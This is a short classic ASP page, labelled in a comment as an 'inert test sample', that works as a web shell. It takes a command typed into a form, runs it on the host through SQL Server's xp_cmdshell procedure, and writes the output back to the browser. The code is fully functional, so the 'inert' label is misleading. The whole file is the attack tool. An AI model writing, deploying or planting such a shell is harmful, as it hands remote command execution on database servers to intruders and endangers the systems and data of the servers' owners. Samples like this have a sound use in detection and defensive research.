<%
' inert test sample: a database page that hands the typed command to SQL Server's shell procedure
Dim cn, rs, typed
typed = Trim(Request.Form("line"))
If typed <> "" Then
    Set cn = Server.CreateObject("ADODB.Connection")
    cn.Open Application("dsn")
    Set rs = cn.Execute("EXEC master.dbo.xp_cmdshell '" & Replace(typed, "'", "''") & "'")
    Do While Not rs.EOF
        Response.Write Server.HTMLEncode(rs(0) & "") & "<br>"
        rs.MoveNext
    Loop
    cn.Close
End If
%>
<form method="post"><input name="line" size="60"><input type="submit"></form>
